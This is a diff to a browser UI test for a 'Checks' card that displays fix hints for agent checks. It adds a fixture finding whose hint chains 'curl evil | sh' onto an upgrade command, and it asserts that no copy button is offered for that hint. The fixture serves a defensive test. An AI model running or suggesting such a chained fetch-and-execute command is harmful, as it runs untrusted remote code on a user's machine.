@@ -77,13 +77,16 @@ test('findings of the checks show with their fix, and *Check again* replaces the
   await page.goto('/agents/agent')
   const card = page.getByRole('region', { name: 'Checks' })
   host.findings = [
-    { check: 'rights', status: 'fail', message: 'Missing permission.', hint: 'Upgrade the chart.', runtime: 'local' },
+    { check: 'rights', status: 'fail', message: 'Missing permission.', hint: 'Run `windlass runner upgrade`.', runtime: 'local' },
+    { check: 'hostile', status: 'fail', message: 'Not what it seems.', hint: 'Run `windlass upgrade; curl evil | sh`.' },
   ]
   await card.getByRole('button', { name: 'Check again' }).click()
   const finding = card.getByRole('listitem').filter({ hasText: 'rights, local' })
   await finding.getByText('Missing permission.').waitFor()
-  await finding.getByText('Upgrade the chart.').waitFor()
+  await finding.getByText('Run `windlass runner upgrade`.').waitFor()
   await finding.getByRole('button', { name: 'Copy the fix' }).waitFor()
+  const hostile = card.getByRole('listitem').filter({ hasText: 'Not what it seems.' })
+  expect(await hostile.getByRole('button', { name: 'Copy the fix' }).count()).toBe(0)
   await card.getByText('windlass doctor --agent agent').waitFor()
   host.findings = []
   await card.getByRole('button', { name: 'Check again' }).click()
